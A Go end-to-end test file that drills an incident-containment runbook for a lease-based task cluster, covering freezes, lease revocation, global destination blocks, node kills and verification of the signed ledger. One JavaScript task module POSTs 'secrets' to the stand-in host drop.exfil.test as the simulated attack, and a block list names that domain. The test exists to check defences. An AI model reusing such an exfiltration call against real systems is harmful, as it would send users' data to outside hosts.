package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/leash-dev/leash/api"
	"github.com/leash-dev/leash/internal/nodetest"
	"github.com/leash-dev/leash/ledger"
)

// TestRunbookDrill: an incident on three real nodes, from detection to
// containment. A victim tenant's tasks exfiltrate (fetch *.exfil.test)
// and sleep; an operator key opens an incident, freezes the fetcher
// profile (no new lease on any node), revokes the victim's leases (its
// running task on another node ends terminated:revoked, the bystander's
// is left alone), and blocks the destination globally (a fetch under a
// lease that allows it is refused by the global deny list on every
// node). A follower is killed in the middle and comes back with the
// same state. Every action is in force on every node when it is
// acknowledged; the times are logged. The incident's timeline names
// who did each action and when, and the events name the incident.
func TestRunbookDrill(t *testing.T) {
	c := nodetest.StartCluster(t, nodetest.ClusterOptions{N: 3, Policy: filepath.Join(nodetest.RepoRoot(), "e2e", "testdata", "runbook-policy.yaml"), Args: clusterArgs()})
	a := c.Nodes[0]
	var op api.APIKey
	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "operator", Name: "oncall"}, 201, &op)
	var aud api.APIKey
	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "auditor"}, 201, &aud)
	var tk api.APIKey
	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "tenant", Tenant: "victim"}, 201, &tk)

	// Roles: a tenant's and an auditor's key may not contain anything.
	for _, key := range []string{tk.Key, aud.Key} {
		if st, body := a.Do("POST", "/v1/runbook/blocks", key, api.BlockRequest{Destinations: []string{"x.test"}}); st != 403 {
			t.Fatalf("block with a non-operator key: %d %s", st, body)
		}
	}
	if st, _ := a.Do("GET", "/v1/runbook/blocks", aud.Key, nil); st != 200 {
		t.Fatalf("auditor reads blocks: %d", st)
	}

	victimFetch := issue(t, a, api.LeaseRequest{Tenant: "victim", Intent: "fetch_task", Session: "s-evil"})
	victimSleep := issue(t, c.Nodes[1], api.LeaseRequest{Tenant: "victim", Intent: "sleep_task"})
	bystanderFetch := issue(t, a, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
	bystanderNap := issue(t, a, api.LeaseRequest{Tenant: "bystander", Intent: "nap_task"})

	exfil := `export default { async fetch() {
		try { await fetch("https://drop.exfil.test/upload", {method: "POST", body: "secrets"}); return new Response("sent") }
		catch (e) { return new Response("refused: " + e.message) } } }`
	fetchTask := api.TaskRequest{Module: api.Module{JS: &exfil}}
	t0 := time.Now()
	before := runTask(t, c.Nodes[2], victimFetch.Token, fetchTask)
	t.Logf("the exfiltrating task before containment (%v): %s", time.Since(t0).Round(time.Millisecond), body(before))
	if strings.Contains(body(before), "global deny") {
		t.Fatalf("refused by the deny list before any block: %s", body(before))
	}

	// Long tasks on node 2: the victim's (60 s wall) and the bystander's (4 s).
	type outcome struct {
		who string
		res api.TaskResult
		st  int
	}
	done := make(chan outcome, 2)
	var wg sync.WaitGroup
	sleep := guestB64(t, "sleep")
	for who, tok := range map[string]string{"victim": victimSleep.Token, "bystander": bystanderNap.Token} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			o := outcome{who: who}
			if r, err := c.Nodes[2].Request(90*time.Second, "POST", "/v1/tasks", tok, wasmTask(sleep)); err == nil {
				o.st = r.Status
				_ = json.Unmarshal(r.Body, &o.res)
			}
			done <- o
		}()
	}
	// The tasks compile and start within a moment; the victim's then
	// sleeps for a minute, so the revocation below finds it running.
	time.Sleep(3 * time.Second)

	// Detection, then the incident.
	detected := time.Now().Add(-2 * time.Second).UTC()
	var inc api.Incident
	a.JSON("POST", "/v1/incidents", op.Key, api.IncidentRequest{ID: "inc-drill", Title: "victim exfiltrates to exfil.test", Owner: "alice",
		DetectedAt: &detected, TimeBoxes: map[string]int64{"freeze": 60}, Owners: map[string]string{"block": "bob"}}, 201, &inc)
	if len(inc.Steps) != 5 || inc.Steps[2].Owner != "bob" || inc.Steps[0].Due.Sub(inc.OpenedAt) != time.Minute {
		t.Fatalf("incident steps: %+v", inc.Steps)
	}
	action := api.RunbookAction{Reason: "exfiltration to exfil.test", Incident: "inc-drill"}

	var timings []string
	measure := func(what string, call func() api.RunbookResult, inForce func(n *nodetest.Node) bool) api.RunbookResult {
		t.Helper()
		start := time.Now()
		r := call()
		acked := time.Now()
		worst := time.Duration(0)
		for _, n := range c.Live() {
			for !inForce(n) {
				if time.Since(acked) > time.Second {
					t.Fatalf("%s: not in force on %s %v after the acknowledgement", what, n.ID(), time.Since(acked))
				}
				time.Sleep(2 * time.Millisecond)
			}
			worst = max(worst, time.Since(acked))
		}
		timings = append(timings, fmt.Sprintf("%s: acknowledged in %v, in force on every live node %v after", what,
			acked.Sub(start).Round(time.Millisecond), worst.Round(time.Millisecond)))
		return r
	}

	// 1. Freeze: no new fetcher lease on any node.
	fr := measure("freeze", func() api.RunbookResult {
		var r api.RunbookResult
		c.Nodes[1].JSON("PUT", "/v1/runbook/frozen/fetcher", op.Key, api.FreezeRequest{RunbookAction: action}, 200, &r)
		return r
	}, func(n *nodetest.Node) bool {
		st, b := n.Do("POST", "/v1/leases", n.Token, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
		return st == 409 && errCode(t, b) == "profile_frozen"
	})
	if fr.By != "key:"+op.KeyID || fr.Incident != "inc-drill" || fr.Revoked != 0 {
		t.Fatalf("freeze: %+v", fr)
	}

	// A follower dies in the middle of the drill.
	victimNode := c.Nodes[2]
	leader := c.Leader(10 * time.Second)
	var dead *nodetest.Node
	for _, n := range c.Nodes {
		if n != leader && n != victimNode {
			dead = n
		}
	}
	dead.Kill()
	t.Logf("%s killed (%v into the test)", dead.ID(), time.Since(t0).Round(time.Millisecond))

	// 2. Revoke the victim tenant's leases: its running task ends
	// terminated:revoked; the bystander's runs on.
	rv := measure("revoke tenant", func() api.RunbookResult {
		var r api.RunbookResult
		leader.JSON("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{RunbookAction: action, Tenant: "victim"}, 200, &r)
		return r
	}, func(n *nodetest.Node) bool {
		var l api.Lease
		return n.TryJSON("GET", "/v1/leases/"+victimSleep.LeaseID, n.Token, nil, 200, &l) == nil && l.Revoked
	})
	want := []string{victimFetch.LeaseID, victimSleep.LeaseID}
	sort.Strings(want)
	if got := slices.Clone(rv.Leases); !slices.Equal(got, want) {
		t.Fatalf("revoked %v, want exactly the victim's %v", got, want)
	}
	ended := map[string]outcome{}
	for range 2 {
		o := <-done
		ended[o.who] = o
	}
	wg.Wait()
	if v := ended["victim"]; v.st != 200 || v.res.Outcome != "terminated:revoked" {
		t.Fatalf("the victim's running task: %+v", v)
	}
	if b := ended["bystander"]; b.st != 200 || b.res.Outcome == "terminated:revoked" {
		t.Fatalf("the bystander's task: %+v", b)
	}

	// 3. Block the destination globally: a fetch the bystander's lease
	// allows is refused by the global deny list on every node.
	bl := measure("block", func() api.RunbookResult {
		var r api.RunbookResult
		victimNode.JSON("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{RunbookAction: action, Destinations: []string{"*.EXFIL.test", "203.0.113.0/24"}}, 200, &r)
		return r
	}, func(n *nodetest.Node) bool {
		var l struct {
			Blocks []api.Block `json:"blocks"`
		}
		return n.TryJSON("GET", "/v1/runbook/blocks", aud.Key, nil, 200, &l) == nil && len(l.Blocks) == 2
	})
	if !slices.Equal(bl.Changed, []string{"*.exfil.test", "203.0.113.0/24"}) {
		t.Fatalf("block changed %v", bl.Changed)
	}
	for _, n := range c.Live() {
		res := runTask(t, n, bystanderFetch.Token, fetchTask)
		if !strings.Contains(body(res), "global deny list (*.exfil.test)") || res.Usage.Blocked != 1 {
			t.Fatalf("fetch on %s after the block: %s, %d blocked", n.ID(), body(res), res.Usage.Blocked)
		}
	}
	// Revocation by session and by digest reach what is left.
	var rs api.RunbookResult
	a.JSON("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{Session: "s-evil"}, 200, &rs)
	if rs.Revoked != 0 {
		t.Fatalf("the session's lease was revoked already: %+v", rs)
	}
	if st, b := a.Do("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{}); st != 400 || errCode(t, b) != "bad_request" {
		t.Fatalf("empty selector: %d %s", st, b)
	}
	if st, b := a.Do("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{Destinations: []string{"10.0.0.0/99"}}); st != 400 || errCode(t, b) != "invalid_destination" {
		t.Fatalf("bad destination: %d %s", st, b)
	}
	if st, b := a.Do("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{Tenant: "victim", RunbookAction: api.RunbookAction{Incident: "nope"}}); st != 404 || errCode(t, b) != "incident_not_found" {
		t.Fatalf("unknown incident: %d %s", st, b)
	}

	// The dead node comes back and holds the same state.
	t.Logf("containment done (%v into the test)", time.Since(t0).Round(time.Millisecond))
	dead.Restart()
	dead.WaitReady(30 * time.Second)
	t.Logf("%s back (%v into the test)", dead.ID(), time.Since(t0).Round(time.Millisecond))
	waitFor(t, 20*time.Second, "the restarted node has the blocks and the freeze", func() bool {
		st, b := dead.Do("POST", "/v1/leases", dead.Token, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
		if st != 409 || errCode(t, b) != "profile_frozen" {
			return false
		}
		var l api.Lease
		return dead.TryJSON("GET", "/v1/leases/"+victimFetch.LeaseID, dead.Token, nil, 200, &l) == nil && l.Revoked
	})
	res := runTask(t, dead, bystanderFetch.Token, fetchTask)
	if !strings.Contains(body(res), "global deny list") {
		t.Fatalf("restarted node's fetch: %s", body(res))
	}

	// Thaw, and the timeline.
	var uf api.RunbookResult
	a.JSON("DELETE", "/v1/runbook/frozen/fetcher?reason=patched&incident=inc-drill", op.Key, nil, 200, &uf)
	issue(t, dead, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
	a.JSON("POST", "/v1/incidents/inc-drill/steps/blast_radius", op.Key, api.StepRequest{Detail: "2 victim leases"}, 200, &inc)
	a.JSON("POST", "/v1/incidents/inc-drill/close", op.Key, api.RunbookAction{Reason: "contained"}, 200, &inc)
	var got api.Incident
	waitFor(t, 5*time.Second, "the restarted node sees the incident closed", func() bool {
		return dead.TryJSON("GET", "/v1/incidents/inc-drill", aud.Key, nil, 200, &got) == nil && !got.Open
	})
	var kinds []string
	for _, e := range got.Timeline {
		kinds = append(kinds, e.Kind)
		if e.Kind != "open" && e.By != "key:"+op.KeyID {
			t.Errorf("timeline entry %s by %q", e.Kind, e.By)
		}
	}
	if w := []string{"open", "freeze", "revoke", "block", "unfreeze", "step", "close"}; !slices.Equal(kinds, w) {
		t.Fatalf("timeline %v, want %v", kinds, w)
	}
	if got.Open || got.TimeToContainmentMs == nil || *got.TimeToContainmentMs < 2000 || got.Timeline[2].Count != 2 {
		t.Fatalf("incident: %+v", got)
	}
	for _, s := range got.Steps {
		if done := s.Name != "restore"; (s.DoneAt != nil) != done {
			t.Errorf("step %s done %v", s.Name, s.DoneAt)
		}
	}
	if st, b := a.Do("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{RunbookAction: action, Destinations: []string{"x.test"}}); st != 409 || errCode(t, b) != "incident_closed" {
		t.Fatalf("action on a closed incident: %d %s", st, b)
	}

	// The events name who, why and the incident.
	var evs struct {
		Events []struct {
			Type string         `json:"type"`
			Data map[string]any `json:"data"`
		} `json:"events"`
	}
	waitFor(t, 10*time.Second, "the runbook's events", func() bool {
		n := 0
		for _, node := range c.Live() {
			if node.TryJSON("GET", "/v1/events?type=profile_frozen,lease_revoked,destination_blocked&limit=100", node.Token, nil, 200, &evs) != nil {
				return false
			}
			for _, e := range evs.Events {
				if e.Data["incident"] == "inc-drill" && e.Data["by"] == "key:"+op.KeyID {
					n++
				}
			}
		}
		return n >= 5 // freeze, thaw, revoke, two blocks
	})
	for _, l := range timings {
		t.Log(l)
	}

	// The blast radius of the victim tenant, from the verified receipts:
	// exactly its two tasks (the exfiltrating fetch, the revoked sleeper),
	// on its two leases, and nothing of the bystander's.
	var br api.BlastRadius
	waitFor(t, 15*time.Second, "the victim's receipts in the blast radius", func() bool {
		return dead.TryJSON("GET", "/v1/runbook/blast-radius?tenant=victim", aud.Key, nil, 200, &br) == nil && br.Verified == 2
	})
	if br.Matched != 2 || len(br.Tenants) != 1 || br.Tenants["victim"] != 2 || br.Leases[victimFetch.LeaseID] != 1 || br.Leases[victimSleep.LeaseID] != 1 {
		t.Fatalf("blast radius of victim: %+v", br)
	}
	outcomes := []string{br.Tasks[0].Outcome, br.Tasks[1].Outcome}
	slices.Sort(outcomes)
	if !slices.Equal(outcomes, []string{"ok", "terminated:revoked"}) {
		t.Fatalf("the victim's task outcomes: %v", outcomes)
	}
	// Each node's verifier checks the receipts' signatures ahead of the
	// queries (the ones other nodes signed too): the same answer, with
	// both signatures already checked.
	waitFor(t, 15*time.Second, "the victim's receipts checked by the verifier", func() bool {
		return dead.TryJSON("GET", "/v1/runbook/blast-radius?tenant=victim", aud.Key, nil, 200, &br) == nil && br.VerifiedAhead == 2
	})
	if br.Matched != 2 || br.Verified != 2 || br.Tenants["victim"] != 2 {
		t.Fatalf("blast radius of victim, verified ahead: %+v", br)
	}
	var byLease api.BlastRadius
	a.JSON("GET", "/v1/runbook/blast-radius?lease="+victimSleep.LeaseID, aud.Key, nil, 200, &byLease)
	if byLease.Verified != 1 || byLease.Tasks[0].Outcome != "terminated:revoked" {
		t.Fatalf("blast radius of the sleeper's lease: %+v", byLease)
	}
	if st, dot := a.Do("GET", "/v1/runbook/blast-radius?tenant=victim&format=dot", aud.Key, nil); st != 200 || !strings.Contains(string(dot), `"tenant:victim" -> "profile:fetcher"`) {
		t.Fatalf("DOT: %d %s", st, dot)
	}
	if st, b := a.Do("GET", "/v1/runbook/blast-radius", aud.Key, nil); st != 400 || errCode(t, b) != "bad_request" {
		t.Fatalf("no filter: %d %s", st, b)
	}

	// The ledger holds a signed governance entry for every action, and an
	// auditor verifies the export offline with the ledger's own tools.
	for what, r := range map[string]api.RunbookResult{"freeze": fr, "revoke": rv, "block": bl, "unfreeze": uf} {
		if r.LedgerIndex < 0 {
			t.Errorf("%s: no governance entry (%d)", what, r.LedgerIndex)
		}
	}
	dir := t.TempDir()
	leash := func(args ...string) (string, error) {
		cmd := exec.Command(nodetest.Binary(t), args...)
		cmd.Env = append(os.Environ(), "LEASH_URL="+a.URL(), "LEASH_TOKEN="+aud.Key)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	save := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	var export, verified string
	waitFor(t, 20*time.Second, "a checkpoint over the whole export that verifies", func() bool {
		cp, err1 := leash("ledger", "checkpoint")
		keys, err2 := leash("ledger", "keys")
		exp, err3 := leash("ledger", "export")
		if err1 != nil || err2 != nil || err3 != nil {
			return false
		}
		out, err := leash("ledger", "verify", "export", "--keys", save("keys.json", keys), "--checkpoint", save("cp.txt", cp), "--export", save("export.jsonl", exp))
		export, verified = exp, out
		return err == nil && strings.Contains(out, "ok: ")
	})
	t.Logf("offline: %s", strings.TrimSpace(verified))
	if out, err := leash("runbook", "blast-radius", "--tenant", "victim"); err != nil || !strings.Contains(out, "2 receipts matched, 2 verified") || !strings.Contains(out, "terminated:revoked") {
		t.Fatalf("leash runbook blast-radius: %v\n%s", err, out)
	}
	if out, err := leash("runbook", "blast-radius", "--lease", victimFetch.LeaseID, "--dot"); err != nil || !strings.HasPrefix(out, "digraph blast_radius {") {
		t.Fatalf("leash runbook blast-radius --dot: %v\n%s", err, out)
	}
	actions := map[string]int{}
	for _, line := range strings.Split(strings.TrimSpace(export), "\n") {
		var rec struct {
			Envelope json.RawMessage `json:"envelope"`
		}
		if json.Unmarshal([]byte(line), &rec) != nil {
			continue
		}
		env, err := ledger.DecodeEnvelope(rec.Envelope)
		if err != nil || env.PayloadType != ledger.GovernancePayloadType {
			continue
		}
		var g ledger.Governance
		if err := json.Unmarshal(env.Payload, &g); err != nil {
			t.Fatal(err)
		}
		if g.By != "key:"+op.KeyID {
			t.Errorf("governance entry %s by %q", g.Action, g.By)
		}
		if g.Incident == "inc-drill" {
			actions[g.Action]++
		}
	}
	for _, w := range []string{"incident_open", "freeze", "revoke", "block", "unfreeze", "incident_step", "incident_close"} {
		if actions[w] != 1 {
			t.Errorf("governance entries of inc-drill: %v, want one %s", actions, w)
		}
	}
}

func body(r api.TaskResult) string {
	if r.Response == nil || r.Response.Body.Body == nil {
		return fmt.Sprintf("(no body; outcome %s)", r.Outcome)
	}
	return *r.Response.Body.Body
}

// TestGovernanceSurvivesKill: a runbook action whose governance entry
// cannot reach the ledger (the cluster lost its quorum between the
// action's commit and the entry's append) still answers, with
// ledger_index -1; the node that took it is then killed with SIGKILL.
// The entry was fsynced in that node's spool before the answer: once the
// node restarts and a quorum is back it is in the ledger, exactly once,
// and the export verifies offline.
func TestGovernanceSurvivesKill(t *testing.T) {
	// A wide freshness window keeps the freeze's revocation fence waiting
	// for the first paused follower long enough to pause the second one
	// after the freeze committed and before the entry's append.
	c := nodetest.StartCluster(t, nodetest.ClusterOptions{N: 3, Policy: policyPath(), Args: clusterArgs("--max-staleness", "3s")})
	a := c.Leader(20 * time.Second)
	var f []*nodetest.Node
	for _, n := range c.Nodes {
		if n != a {
			f = append(f, n)
		}
	}
	f[1].Pause()
	type answer struct {
		status int
		body   []byte
		err    error
	}
	done := make(chan answer, 1)
	go func() {
		r, err := a.Request(60*time.Second, "PUT", "/v1/runbook/frozen/small", a.Token, api.FreezeRequest{RunbookAction: api.RunbookAction{Reason: "drill"}})
		if err != nil {
			done <- answer{err: err}
			return
		}
		done <- answer{status: r.Status, body: r.Body}
	}()
	// The freeze is committed once the other follower has it: pause that
	// one too, and the leader has no quorum for the entry.
	waitFor(t, 10*time.Second, "the freeze applied on a follower", func() bool {
		var fr struct {
			Frozen []api.Frozen `json:"frozen"`
		}
		st, b, err := f[0].Try("GET", "/v1/runbook/frozen", f[0].Token, nil)
		return err == nil && st == 200 && json.Unmarshal(b, &fr) == nil && len(fr.Frozen) == 1
	})
	f[0].Pause()
	ans := <-done
	if ans.err != nil || ans.status != 200 {
		t.Fatalf("freeze: %d %s %v", ans.status, ans.body, ans.err)
	}
	var res api.RunbookResult
	if err := json.Unmarshal(ans.body, &res); err != nil {
		t.Fatal(err)
	}
	if res.LedgerIndex != -1 {
		t.Fatalf("the freeze's entry reached the ledger without a quorum (ledger_index %d): the test did not cut the quorum in time", res.LedgerIndex)
	}
	// The node's output reaches the test through a pipe, after the answer.
	waitFor(t, 5*time.Second, "the log line of the entry left in the spool", func() bool {
		return strings.Contains(a.Logs(), "governance entry not yet appended")
	})
	a.Kill()
	f[0].Resume()
	f[1].Resume()
	a.Restart()

	id := fmt.Sprintf("raft:%d", res.Index)
	dir := t.TempDir()
	leash := func(args ...string) (string, error) {
		cmd := exec.Command(nodetest.Binary(t), args...)
		cmd.Env = append(os.Environ(), "LEASH_URL="+a.URL(), "LEASH_TOKEN="+a.Token)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	save := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	var entries int
	var verified string
	waitFor(t, 60*time.Second, "the spooled entry in a ledger that verifies", func() bool {
		cp, err1 := leash("ledger", "checkpoint")
		keys, err2 := leash("ledger", "keys")
		exp, err3 := leash("ledger", "export")
		if err1 != nil || err2 != nil || err3 != nil {
			return false
		}
		entries = 0
		for _, line := range strings.Split(strings.TrimSpace(exp), "\n") {
			var rec struct {
				Envelope json.RawMessage `json:"envelope"`
			}
			if json.Unmarshal([]byte(line), &rec) != nil {
				continue
			}
			env, err := ledger.DecodeEnvelope(rec.Envelope)
			if err != nil || env.PayloadType != ledger.GovernancePayloadType {
				continue
			}
			var g ledger.Governance
			if json.Unmarshal(env.Payload, &g) == nil && g.ID == id && g.Action == "freeze" && g.Target == "small" && g.Reason == "drill" {
				entries++
			}
		}
		if entries == 0 {
			return false
		}
		out, err := leash("ledger", "verify", "export", "--keys", save("keys.json", keys), "--checkpoint", save("cp.txt", cp), "--export", save("export.jsonl", exp))
		verified = out
		return err == nil && strings.Contains(out, "ok: ")
	})
	if entries != 1 {
		t.Fatalf("the freeze's governance entry %s is in the ledger %d times, want once", id, entries)
	}
	t.Logf("after the kill and the restart: %s", strings.TrimSpace(verified))
}
